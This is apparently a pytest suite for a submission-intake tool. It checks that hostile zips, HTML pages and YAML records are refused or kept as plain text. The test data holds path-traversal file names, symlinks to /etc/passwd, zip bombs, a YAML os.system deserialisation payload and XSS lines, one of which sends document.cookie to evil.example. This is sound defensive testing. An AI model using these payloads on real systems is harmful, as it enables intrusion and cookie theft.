"""Whatever strangers send is refused with a reason or taken as plain text; nothing else is written and nothing runs."""

import io
import os
import socket
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from build_hooks.intake import bounds, sorting, submission
from build_hooks.intake import desk as desks
from build_hooks.intake.opened import _opened
from build_hooks.intake.sources import submissions
from build_hooks.intake.submission import Submission
from build_hooks.intake.unread import problem_of
from build_hooks.rules.problems import Problem
from tests.building import jpeg
from tests.intake.sending import NAME, PATH, PRODUCT, add, contents, files, page, write, zipped


def found(path: Path) -> list[Submission | Problem]:
    return list(submissions(path))


def messages(path: Path) -> list[str]:
    """What is said of a file in which nothing can be taken."""
    return [one.message if isinstance(one, Problem) else "taken" for one in found(path)]


@pytest.mark.parametrize(
    "name",
    [
        "../../evil.yml",
        "/etc/cron.d/evil",
        "C:\\Windows\\evil.yml",
        "\\\\host\\share\\evil.yml",
        "..\\..\\evil.yml",
        "anh/../../../evil.jpg",
        "anh/..%2f..%2fevil.jpg",
        "anh/evil.jpg\x00.yml",
        "anh/ảnh.jpg",
        "anh/a\u0301.jpg",
        "anh/con.svg",
        "anh/.htaccess",
        "x" * 5_000,
        "a/" * 400 + "evil.yml",
        "anh/01.jpg/",
        "anh/nul.jpg",
        "anh/COM1.png",
        "anh/01.jpg.",
        "anh/02.jpg ",
        "anh/a\u202egpj.jpg",
        "aux.yml",
        "san-pham.yml.",
        "minh-chung/qd\u202efdp.pdf",
    ],
)
def test_a_name_never_becomes_a_path(repository: Path, desk: Path, name: str) -> None:
    """It is left, the rest is taken, and every written file has a name of ours."""
    before = set(contents(repository))
    buffer = io.BytesIO(zipped(files()))
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(zipfile.ZipInfo(name), b"evil")
    (desk / "a.zip").write_bytes(buffer.getvalue())
    result = add(repository, desk / "a.zip")
    assert result.exit_code == 0, result.output
    assert result.output.replace("\n", "").isprintable()
    new = set(contents(repository)) - before
    assert {PATH, "producers/lo-mam-ba-sau.yml", PATH.replace("products", "images")[:-4] + "/01.jpg"} == new
    assert [one.name for one in desk.iterdir()] == ["a.zip"]


def test_names_that_windows_keeps_for_itself(repository: Path, desk: Path) -> None:
    """A paper gets another name, and so does the folder aside; a photo is refused, for its record says its name."""
    product = PRODUCT.replace(NAME, "Con")
    members = {**files(product=product), "minh-chung/con.pdf": b"%PDF-1.7", "minh-chung/Lpt1.PDF": b"%PDF-1.7"}
    (desk / "a.zip").write_bytes(zipped(members))
    assert add(repository, desk / "a.zip").exit_code == 0
    papers = sorted(one.name for one in (repository / "nhan/ho-so-con/minh-chung").iterdir())
    assert papers == ["ho-so-Lpt1.PDF", "ho-so-con.pdf"]
    (desk / "b.zip").write_bytes(zipped(files(product=PRODUCT.replace("01.jpg", "nul.jpg"))))
    result = add(repository, desk / "b.zip")
    assert result.exit_code == 1 and "tên ảnh “nul.jpg” không dùng được" in result.output, result.output


def test_a_record_in_a_deep_folder_is_only_named_by_it(repository: Path, desk: Path) -> None:
    """The folders of a zip tell submissions apart and are nothing more."""
    (desk / "a.zip").write_bytes(zipped({f"../../../{name}": one for name, one in files().items()}))
    result = add(repository, desk / "a.zip")
    assert result.exit_code == 0 and (repository / PATH).is_file()


def test_a_zip_whose_names_have_backslashes_is_taken(desk: Path) -> None:
    """Some programs for Windows write them; the folders still only tell submissions apart."""
    (desk / "a.zip").write_bytes(zipped({f"Hồ sơ\\{name.replace('/', chr(92))}": one for name, one in files().items()}))
    (taken,) = found(desk / "a.zip")
    assert isinstance(taken, Submission)
    assert sorted(taken.files) == ["anh/01.jpg", "chu-the.yml", "gui-kem.yml", "san-pham.yml"]


def linked(target: str = "/etc/passwd") -> bytes:
    buffer = io.BytesIO(zipped(files()))
    with zipfile.ZipFile(buffer, "a") as archive:
        link = zipfile.ZipInfo("minh-chung/a.pdf")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, target)
    return buffer.getvalue()


def encrypted() -> bytes:
    """The bit that says so is set in both headers of the first member."""
    content = bytearray(zipped(files()))
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.index(sign) + offset
        struct.pack_into("<H", content, at, struct.unpack_from("<H", content, at)[0] | 1)
    return bytes(content)


def lying() -> bytes:
    """A zip bomb that says in its directory that it is small."""
    content = bytearray(zipped({"san-pham.yml": b"name: x\n", "anh/01.jpg": bytes(3_000_000)}))
    real = struct.pack("<I", 3_000_000)
    return bytes(content.replace(real, struct.pack("<I", 10)))


def doubled() -> bytes:
    buffer = io.BytesIO(zipped(files()))
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("san-pham.yml", b"name: khac\n")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (linked, "link_in_zip"),
        (encrypted, "encrypted_zip"),
        (lying, "broken_file"),
        (doubled, "twin_files"),
        (lambda: zipped({**files(), "anh/01.JPG": jpeg()}), "twin_files"),
        (lambda: zipped({**files(), "ANH/01.jpg": jpeg()}), "twin_files"),
        (lambda: zipped({f"x/{number}": b"" for number in range(10_000)}), "too_many_files"),
        (lambda: zipped({**files(), **{f"minh-chung/{n}.pdf": b"%PDF-" for n in range(11)}}), "too_many_files"),
        (lambda: zipped({"a.zip": zipped({"b.zip": zipped({"c.zip": zipped(files())})})}), "packed_in_zip"),
        (lambda: zipped({"anh/01.jpg": jpeg()}), "stray_photo"),
        (lambda: zipped({"san-pham.yml": b"x: " + b"a" * 300_000}), "file_too_large"),
        (lambda: zipped(files())[:-400], "bad_zip"),
        (lambda: zipped(files())[:400], "bad_zip"),
        (lambda: b"", "bad_zip"),
        (lambda: b"PK\x05\x06" + bytes(18), "no_submission"),
        (lambda: b"MZ" + bytes(1000), "bad_zip"),
    ],
)
def test_a_zip_is_refused_with_its_reason(desk: Path, make: Callable[[], bytes], message: str) -> None:
    """Each kind of broken or malicious zip."""
    (desk / "a.zip").write_bytes(make())
    assert messages(desk / "a.zip") == [message]


def test_a_zip_in_a_zip_has_no_room_of_its_own(desk: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither of bytes nor of files: what a zip may bring is what all of them bring together."""
    monkeypatch.setattr(bounds, "MAX_UNPACKED", 3_000_000)
    inner = zipped({**files(), "anh/02.jpg": bytes(2_000_000)})
    (desk / "a.zip").write_bytes(zipped({f"{number}.zip": inner for number in range(4)}))
    assert messages(desk / "a.zip") == ["taken", "zip_bomb", "zip_bomb"]
    monkeypatch.setattr(bounds, "MAX_UNPACKED", 400_000_000)
    monkeypatch.setattr(bounds, "MAX_FILES", 12)
    assert messages(desk / "a.zip") == ["taken", "too_many_files", "too_many_files", "too_many_files"]


def test_a_bomb_is_stopped_while_it_unpacks(desk: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """By the bytes that come out; forty photos of zeros pack to nothing."""
    monkeypatch.setattr(bounds, "MAX_UNPACKED", 10_000_000)
    many = {f"anh/{number:02}.jpg": bytes(1_000_000) for number in range(40)}
    (desk / "a.zip").write_bytes(zipped({**files(), **many}))
    assert (desk / "a.zip").stat().st_size < 200_000
    assert messages(desk / "a.zip") == ["zip_bomb"]


def test_zips_of_one_folder_do_not_add_up(repository: Path, desk: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each within its own bound: what a run keeps of all of them is bounded too, and it says where it stopped."""
    one = {**files(), "minh-chung/a.pdf": b"%PDF-" + bytes(900_000)}
    monkeypatch.setattr(bounds, "MAX_RUN", 2_000_000)
    for number in range(4):
        sent = one | {"san-pham.yml": PRODUCT.replace(NAME, f"Mắm {number}").encode()}
        write(desk / "nhieu", {f"{number}.zip": zipped(sent)})
    result = add(repository, desk / "nhieu")
    assert result.exit_code == 1 and "2 mới, 0 sửa, 0 trùng, 1 lỗi." in result.output, result.output
    assert "nhieu/2.zip" in result.output and "các hồ sơ trong một lần nhận đã quá nặng" in result.output


def test_too_many_submissions(desk: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The first are taken, the rest is said not to be looked at."""
    monkeypatch.setattr(bounds, "MAX_SUBMISSIONS", 2)
    (desk / "a.zip").write_bytes(zipped({f"{n}/san-pham.yml": PRODUCT.encode() for n in range(3)}))
    assert messages(desk / "a.zip") == ["taken", "taken", "too_many_submissions"]


SCRIPTS = """<script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>
<iframe src="file:///etc/passwd"></iframe><pre data-file="../../evil.yml">x: y</pre>
<a data-file="minh-chung/../../x.pdf" href="data:application/pdf;base64,JVBERi0=">x</a><object data="x"></object>"""


def test_a_page_with_scripts_is_plain_data(repository: Path, desk: Path) -> None:
    """Only marked elements with known names count; nothing else of it comes along."""
    (desk / "a.html").write_bytes(page(files(), more=SCRIPTS))
    result = add(repository, desk / "a.html")
    assert result.exit_code == 0, result.output
    assert not any(b"evil" in content or b"<script" in content for content in contents(repository).values())


def test_markup_in_a_name_stays_words(repository: Path, desk: Path) -> None:
    """A name that is markup or a template is a name."""
    text = PRODUCT.replace(NAME, "<script>alert(1)</script> {{ config }}")
    (desk / "a.html").write_bytes(page(files(product=text)))
    result = add(repository, desk / "a.html")
    assert result.exit_code == 0, result.output
    assert (repository / "products/an-giang/binh-thanh-dong/script-alert-1-script-config.yml").is_file()


@pytest.mark.parametrize(
    ("spoil", "message"),
    [
        (lambda whole: whole.replace(b'<meta name="ocop-gui" content="1">', b""), "not_from_form"),
        (lambda whole: whole.replace(b"base64,/9j/", b"base64,/9j/="), "broken_file_in_page"),
        (lambda whole: whole.replace(b'data-file="san-pham.yml"', b'data-file="khac.yml"'), "no_submission"),
        (lambda whole: whole.replace(b'data-file="chu-the.yml"', b'data-file="san-pham.yml"'), "twin_files"),
        (lambda whole: whole[:300], "no_submission"),
        (lambda _: b"<html></html>", "not_from_form"),
        (lambda _: b"", "not_from_form"),
        (lambda whole: whole.decode().encode("utf-16"), "not_from_form"),
    ],
)
def test_a_page_that_is_not_whole(desk: Path, spoil: Callable[[bytes], bytes], message: str) -> None:
    """It is refused with the reason."""
    (desk / "a.html").write_bytes(spoil(page(files())))
    assert messages(desk / "a.html") == [message]


@pytest.mark.parametrize(
    "filling",
    [b'<pre data-file="', b'<a data-file="anh/01.jpg" href="data:', b"<pre", b"<", b'<pre data-file="san-pham.yml">'],
)
def test_a_page_of_nothing_but_beginnings_is_read_at_once(desk: Path, filling: bytes) -> None:
    """No pattern runs over it again and again: ten megabytes are done before a person could notice."""
    whole = b'<meta name="ocop-gui" content="1">' + filling * (10_000_000 // len(filling))
    (desk / "a.html").write_bytes(whole)
    assert messages(desk / "a.html") == ["no_submission"]


def test_links_in_a_folder_are_not_followed(desk: Path) -> None:
    """Neither to a file nor to a folder, nor round in a circle."""
    folder = write(desk / "folder", files())
    (folder / "anh/02.jpg").symlink_to("/etc/passwd")
    (folder / "minh-chung").symlink_to(folder, target_is_directory=True)
    (desk / "secret.yml").write_text("name: x\n", "utf-8")
    (desk / "link").symlink_to(folder)
    assert messages(folder) == ["symlink", "symlink", "taken"]
    (taken,) = (one for one in found(folder) if isinstance(one, Submission))
    assert sorted(taken.files) == ["anh/01.jpg", "chu-the.yml", "gui-kem.yml", "san-pham.yml"]
    assert messages(desk / "link") == ["symlink"]


def test_a_folder_of_ten_thousand_files(desk: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """It is counted, not read."""
    monkeypatch.setattr(bounds, "MAX_FILES", 20)
    write(desk / "folder", {f"{number}.jpg": b"" for number in range(30)})
    assert messages(desk / "folder") == ["too_many_files"]


def test_a_record_brings_only_the_photos_it_names(desk: Path) -> None:
    """Other pictures of the folder, a person's downloads, are not looked at."""
    write(desk, {"mam.yml": PRODUCT.encode(), "01.jpg": jpeg(), "gia-dinh.jpg": jpeg()})
    (taken,) = found(desk / "mam.yml")
    assert isinstance(taken, Submission) and sorted(taken.files) == ["anh/01.jpg", "san-pham.yml"]


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("a.docx", "stray_paper"),
        ("a.XLSX", "stray_table"),
        ("a.rar", "stray_packed"),
        ("chu-the.yml", "stray_record"),
        ("a.heic", "stray_photo"),
        ("trong.bin", "stray_empty"),
        ("Thumbs.db", "system_files"),
        ("a.exe", "not_a_submission"),
    ],
)
def test_other_kinds_of_files(desk: Path, name: str, message: str) -> None:
    """Each is answered with what to do."""
    (desk / name).write_bytes(b"" if name == "trong.bin" else b"x")
    assert messages(desk / name) == [message]


def test_a_very_large_file_is_not_opened(desk: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """By its size alone."""
    monkeypatch.setattr(bounds, "MAX_SOURCE", 10)
    (desk / "a.html").write_bytes(b"x" * 11)
    assert messages(desk / "a.html") == ["file_too_large"]


def test_a_limit_is_told_in_megabytes(desk: Path) -> None:
    """Which people see in their own file lists; also that of a record."""
    (desk / "a.zip").write_bytes(zipped({"san-pham.yml": b"x: " + b"a" * 300_000}))
    (told,) = found(desk / "a.zip")
    assert isinstance(told, Problem) and "“san-pham.yml” quá nặng; nhiều nhất 0,25 MB;" in told.line()


@pytest.mark.parametrize(
    ("record", "said"),
    [
        ("a: &x [1]\nb: *x\n", "dùng lại nội dung"),
        ("- a\n- b\n", "tệp không có dòng “tên trường: nội dung” nào"),
        ("name: 'a\n", "không đọc được"),
        ("name: \x07\n", "ký tự điều khiển"),
        ("", "tệp trống"),
        ("!!python/object/apply:os.system ['touch /tmp/evil']\n", "“tên trường: nội dung”"),
    ],
)
def test_a_hostile_record(repository: Path, desk: Path, record: str, said: str) -> None:
    """Aliases, tags and broken YAML are told with their place; nothing is written."""
    before = contents(repository)
    (desk / "a.zip").write_bytes(zipped({**files(), "san-pham.yml": record.encode()}))
    result = add(repository, desk / "a.zip")
    assert result.exit_code == 1 and said in result.output, result.output
    assert contents(repository) == before


@pytest.mark.parametrize("content", [b"MZ\x90\x00", b"<svg onload=alert(1)>", b"%PDF-1.4", b"", jpeg()[:200]])
def test_a_photo_that_is_none(repository: Path, desk: Path, content: bytes) -> None:
    """A program, a drawing with script, half a picture: refused by its name, and nothing of it is kept."""
    before = contents(repository)
    (desk / "a.zip").write_bytes(zipped({**files(), "anh/01.jpg": content}))
    result = add(repository, desk / "a.zip")
    told = "ảnh chưa tải hết" if content.startswith(b"\xff\xd8") else "không mở được như một tấm ảnh"
    assert result.exit_code == 1 and told in result.output, result.output
    assert contents(repository) == before


def _changed(content: bytes, sign: bytes, offset: int, value: bytes) -> bytes:
    at = content.index(sign) + offset
    return content[:at] + value + content[at + len(value) :]


def _overlapping() -> bytes:
    """Two entries of the directory that name the same bytes."""
    buffer = io.BytesIO(zipped(files()))
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.filelist.append(archive.filelist[0])
        archive._didModify = True  # type: ignore[attr-defined]
    return buffer.getvalue()


SPOILT: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "encrypted": encrypted,
    "linked": linked,
    "cut": lambda: zipped(files())[:-30],
    "unknown-method": lambda: _changed(zipped(files()), b"PK\x01\x02", 10, b"\x63\0"),
    "far-away": lambda: _changed(zipped(files()), b"PK\x01\x02", 42, b"\xff\xff\xff\x7f"),
    "no-utf-8": lambda: zipped({**files(), "ảnh.txt": b""}).replace("ả".encode(), b"\xe1\xff\xff"),
    "overlapping": _overlapping,
}


def _three(desk: Path, content: bytes, ending: str = ".zip") -> list[Path]:
    """A and C are whole, B is not."""
    sent = [PRODUCT.replace(NAME, name).encode() for name in ("Mắm A", "Mắm C")]
    (desk / "a.zip").write_bytes(zipped({**files(), "san-pham.yml": sent[0]}))
    (desk / f"b{ending}").write_bytes(content)
    (desk / "c.zip").write_bytes(zipped({**files(), "san-pham.yml": sent[1]}))
    return [desk / "a.zip", desk / f"b{ending}", desk / "c.zip"]


def taken(repository: Path) -> list[str]:
    """The slugs of what has come."""
    return sorted(one.stem for one in repository.rglob("products/*/*/*.yml"))


@pytest.mark.parametrize("make", SPOILT.values(), ids=SPOILT)
def test_one_wrong_zip_never_ends_a_run(repository: Path, desk: Path, make: Callable[[], bytes]) -> None:
    """What came before and after it is taken, and it is named."""
    result = add(repository, *_three(desk, make()))
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.output
    assert taken(repository) == ["mam-a", "mam-c"] and "←  b.zip" in result.output, result.output


@pytest.mark.parametrize("name", ["", "/", "//", ".", "..", "\\", "anh/", "anh//", "\0", "a\0b", "x" * 60_000])
def test_a_member_of_any_name(repository: Path, desk: Path, name: str) -> None:
    """It is passed over; the submission in the same zip is taken."""
    buffer = io.BytesIO(zipped(files()))
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(zipfile.ZipInfo("x"), b"")
        archive.filelist[-1].filename = name
    result = add(repository, *_three(desk, buffer.getvalue()))
    assert result.exit_code == 0, result.output
    assert taken(repository) == ["mam-a", "mam-c", "mam-ca-linh"] and "Không lấy: .\n" not in result.output


def test_a_broken_member_is_its_own_submission_s(repository: Path, desk: Path) -> None:
    """Forty may come in one zip: the others of it are taken."""
    broken = {f"1/{name}": one for name, one in files().items()} | {"1/minh-chung/a.pdf": b"%PDF-1.7 abcdef"}
    other = {f"2/{name}": one for name, one in files(product=PRODUCT.replace(NAME, "Mắm C")).items()}
    whole = zipped({**broken, **other}).replace(struct.pack("<I", zlib.crc32(b"%PDF-1.7 abcdef")), b"abcd")
    (desk / "a.zip").write_bytes(whole)
    result = add(repository, desk / "a.zip")
    assert result.exit_code == 1 and taken(repository) == ["mam-c"]
    assert "không đọc được tệp “minh-chung/a.pdf” trong hồ sơ;" in result.output, result.output


def _pipe(place: Path) -> None:
    os.mkfifo(place)


def _socket(place: Path) -> None:
    with socket.socket(socket.AF_UNIX) as one:
        here = Path.cwd()
        os.chdir(place.parent)  # an address has a hundred letters at most
        try:
            one.bind(place.name)
        finally:
            os.chdir(here)


def _nothing(place: Path) -> None:
    place.unlink(missing_ok=True)


def _deep(place: Path) -> None:
    place.joinpath(*["d"] * 600).mkdir(parents=True)


def _folder_with_pipes(place: Path) -> None:
    place.mkdir()
    for name in ("san-pham.yml", "a.zip", "b.html"):
        os.mkfifo(place / name)


@pytest.mark.parametrize(
    ("make", "ending", "said"),
    [
        (_pipe, ".zip", "đây không phải là tệp hay thư mục thường;"),
        (_pipe, ".yml", "đây không phải là tệp hay thư mục thường;"),
        (_socket, ".zip", "đây không phải là tệp hay thư mục thường;"),
        (_nothing, ".zip", "không có tệp hay thư mục này;"),
        (_deep, "", "thư mục này nằm quá sâu, chưa được xem;"),
        (_folder_with_pipes, "", "đây không phải là tệp hay thư mục thường;"),
    ],
)
def test_what_is_no_file_never_ends_a_run(
    repository: Path, desk: Path, make: Callable[[Path], None], ending: str, said: str
) -> None:
    """Nor keeps it waiting: nobody writes into the other end of a pipe."""
    paths = _three(desk, b"", ending)
    paths[1].unlink()
    make(paths[1])
    result = add(repository, *paths)
    assert result.exit_code == 1 and taken(repository) == ["mam-a", "mam-c"], result.output
    assert said in result.output and "←  b" in result.output


@pytest.mark.parametrize("where", ["scandir", "open"])
def test_what_may_not_be_read(repository: Path, desk: Path, monkeypatch: pytest.MonkeyPatch, where: str) -> None:
    """A folder or a file of another person: it is named, with the system's reason."""
    paths = _three(desk, b"", "")
    paths[1].unlink()
    write(paths[1], files())
    real_scan, real_open = os.scandir, Path.open

    def scan(path: Any = ".") -> object:
        if str(path) == str(paths[1] / "anh") and where == "scandir":
            raise PermissionError
        return real_scan(path)

    def opened(path: Path, *words: Any, **more: Any) -> object:
        if path.name == "chu-the.yml" and path.is_relative_to(paths[1]) and where == "open":
            raise PermissionError
        return real_open(path, *words, **more)

    monkeypatch.setattr(os, "scandir", scan)
    monkeypatch.setattr(Path, "open", opened)
    result = add(repository, *paths)
    assert result.exit_code == 1 and taken(repository) == ["mam-a", "mam-c"], result.output
    said = "máy không cho đọc" if where == "scandir" else "không đọc được tệp “chu-the.yml”"
    assert said in result.output, result.output


@pytest.mark.parametrize("place", ["sorting", "opening", "settling"])
def test_an_error_that_nobody_foresaw(
    repository: Path, desk: Path, monkeypatch: pytest.MonkeyPatch, place: str
) -> None:
    """It is the problem of its own submission, told with the kind of the error and the line that raised it."""
    paths = _three(desk, zipped(files()))

    def fails(*_: object) -> None:
        raise IndexError

    def at(real: Callable[..., object], is_b: Callable[..., bool]) -> Callable[..., object]:
        return lambda *given: fails() if is_b(*given) else real(*given)

    if place == "sorting":
        real = submission.within_bounds
        monkeypatch.setattr(sorting, "within_bounds", at(real, lambda its: its.source == "b.zip"))
    elif place == "opening":
        monkeypatch.setattr("build_hooks.intake.opened._opened", at(_opened, lambda its: its.source == "b.zip"))
    else:
        settle = desks.Desk.settle
        monkeypatch.setattr(desks.Desk, "settle", at(settle, lambda _, one: one.source == "b.zip"))
    result = add(repository, *paths)
    assert result.exit_code == 1 and taken(repository) == ["mam-a", "mam-c"], result.output
    assert "phần mềm không đọc được hồ sơ này (IndexError, " in result.output, result.output


def test_an_error_names_its_line() -> None:
    """Of our own code, for who mends it; what the system refuses is no fault of ours."""
    try:
        submission.known_name(None)  # type: ignore[arg-type]
    except AttributeError as error:
        told = problem_of("a.zip", error)
    assert told.message == "unexpected_error" and str(told.params["kind"]).startswith("AttributeError, submission.py:")
    assert problem_of("a.zip", PermissionError()).message == "unreadable_file"
    assert problem_of("a.zip", FileNotFoundError()).message == "no_such_file"
